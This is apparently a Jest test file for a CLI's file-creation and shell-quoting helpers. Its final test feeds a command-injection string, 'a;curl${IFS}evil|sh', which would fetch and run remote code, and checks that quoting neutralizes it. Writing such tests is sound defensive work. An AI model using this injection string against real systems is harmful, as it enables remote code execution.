import { existsSync, mkdtempSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { withNewFile } from '../../src/cli/new-file';
import { shellQuoted } from '../../src/cli/shell-quoted';

const folder = mkdtempSync(join(tmpdir(), 'new-file-'));

test('the file is there before the work, for nobody else, and has the result after it', async () => {
  const file = join(folder, 'receipt.json');
  await withNewFile(file, async write => {
    expect(statSync(file).mode % 0o1000).toBe(0o600);
    write('done');
  });
  expect(readFileSync(file, 'utf8')).toBe('done');
});

test('what is there is not overwritten, and a file that cannot be made is said before the work', async () => {
  const file = join(folder, 'there');
  writeFileSync(file, 'mine');
  const work = jest.fn();
  await expect(withNewFile(file, work)).rejects.toMatchObject({ exit: 64, message: `--out: ${file} is there already; name a file that is not` });
  await expect(withNewFile(join(folder, 'no', 'file'), work)).rejects.toMatchObject({ exit: 64, message: expect.stringContaining('cannot be made (ENOENT)') });
  expect(work).not.toHaveBeenCalled();
  expect(readFileSync(file, 'utf8')).toBe('mine');
});

test('work without a result leaves no file', async () => {
  const file = join(folder, 'none');
  await expect(withNewFile(file, async () => { throw new Error('refused'); })).rejects.toThrow('refused');
  expect(existsSync(file)).toBe(false);
});

test('a value is one word of a shell, whatever somebody chose', () => {
  expect(shellQuoted('arn:aws:iam::111122223333:role/Op+s=,.@-_')).toBe('arn:aws:iam::111122223333:role/Op+s=,.@-_');
  expect(['a;curl${IFS}evil|sh', 'it\'s', ''].map(shellQuoted)).toEqual(['\'a;curl${IFS}evil|sh\'', '\'it\'\\\'\'s\'', '\'\'']);
});
